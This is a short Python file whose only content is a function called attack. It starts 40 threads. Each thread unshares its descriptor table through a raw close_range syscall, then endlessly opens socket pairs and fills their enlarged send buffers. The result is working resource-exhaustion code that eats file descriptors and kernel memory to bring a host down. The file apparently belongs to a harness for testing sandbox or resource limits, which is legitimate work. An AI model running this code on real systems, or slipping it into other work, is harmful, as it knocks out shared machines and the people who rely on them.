"""Gives each thread a table of descriptors of its own, full of sockets that hold what was written to them."""

import ctypes
import socket
import threading


def attack(x):
    libc = ctypes.CDLL(None)
    threading.stack_size(65536)

    def fill():
        assert libc.syscall(436, 60, 60, 2) == 0  # close_range, CLOSE_RANGE_UNSHARE
        held = []
        while True:
            held += socket.socketpair()
            held[-1].setblocking(False)
            held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 26)
            try:
                while True:
                    held[-1].send(bytes(65536))
            except BlockingIOError:
                pass

    threads = [threading.Thread(target=fill) for _ in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
